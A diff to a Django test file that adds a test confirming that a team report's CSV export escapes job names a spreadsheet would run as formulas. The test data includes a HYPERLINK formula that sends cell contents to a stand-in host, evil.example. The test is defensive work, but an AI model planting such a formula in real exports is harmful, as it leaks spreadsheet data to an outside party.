@@ -18,7 +18,7 @@ from django.test import Client
 from rest_framework.test import APIClient
 
 from jobs.core.choices import InstanceState
-from jobs.models import Instance, InstanceEvent, PriceQuote
+from jobs.models import Instance, InstanceEvent, Job, PriceQuote
 from jobs.money.ledger import Waste
 from tests.costs import recorded
 from tests.costs.history import make_history
@@ -148,6 +148,21 @@ def test_the_csv_tables_hold_the_json_figures(world):
     assert {r["kind"]: r["usd"] for r in waste} == body["waste"]
     by_accept = api.get(f"/api/v1/teams/{setup.team.pk}/report/", RANGE, HTTP_ACCEPT="text/csv")
     assert by_accept["Content-Type"].startswith("text/csv") and by_accept.content.decode().startswith("job,name,")
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_text(world):
+    # Job names are typed by members; a spreadsheet opening the export runs a cell that
+    # starts with = + - @ (or a tab, CR) as a formula (OWASP's CSV injection).
+    setup, (hand, run), api = world
+    names = {hand.pk: '=HYPERLINK("http://evil.example/?"&A1,"details")', run.pk: "-2+3"}
+    for pk, name in names.items():
+        Job.objects.filter(pk=pk).update(name=name)
+    body = report(api, setup.team).json()
+    rows = list(csv.DictReader(io.StringIO(report(api, setup.team, format="csv", table="jobs").content.decode())))
+    assert {int(r["job"]): r["name"] for r in rows} == {pk: "'" + name for pk, name in names.items()}
+    # Figures are numbers, a negative one too, and stay as the JSON has them.
+    assert [{k: v for k, v in r.items() if k != "name"} for r in rows] == [
+        {k: str(v) for k, v in row.items() if k != "name"} for row in body["jobs"]]
 
 
 @pytest.mark.parametrize("params, field", [
